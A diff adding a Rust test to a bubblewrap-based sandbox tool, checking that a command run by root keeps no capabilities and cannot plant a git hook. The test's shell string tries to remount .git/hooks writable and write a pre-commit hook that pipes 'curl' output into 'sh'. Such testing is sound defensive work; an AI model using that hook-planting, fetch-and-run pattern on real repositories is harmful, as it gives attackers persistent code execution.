@@ -418,3 +418,32 @@ fn a_granted_network_reaches_no_loopback_service() {
         "{status}"
     );
 }
+
+/// Run by root (as in CI and many containers), bubblewrap used to keep
+/// the capabilities: a command could remount the read-only binds
+/// writable and plant a git hook, or add a route that sends its packets to
+/// the host's loopback through slirp4netns (the hostile review of H8). A
+/// command holds no capability, whoever runs cairn.
+#[test]
+fn a_command_holds_no_capability_even_when_root_runs_cairn() {
+    if !enforced() || !have("bwrap") {
+        return;
+    }
+    let h = Home::new();
+    std::fs::create_dir_all(h.project.join(".git/hooks")).unwrap();
+    let out = h.cairn(&[
+        "sandbox",
+        "--",
+        "sh",
+        "-c",
+        "grep CapEff /proc/self/status; \
+         mount -o remount,bind,rw .git/hooks 2>/dev/null; \
+         echo 'curl -s http://127.0.0.1:9/x | sh' > .git/hooks/pre-commit 2>/dev/null; true",
+    ]);
+    let seen = text(&out);
+    assert!(seen.contains("CapEff:\t0000000000000000"), "{seen}");
+    assert!(
+        !h.project.join(".git/hooks/pre-commit").exists(),
+        "a hook was planted: {seen}"
+    );
+}
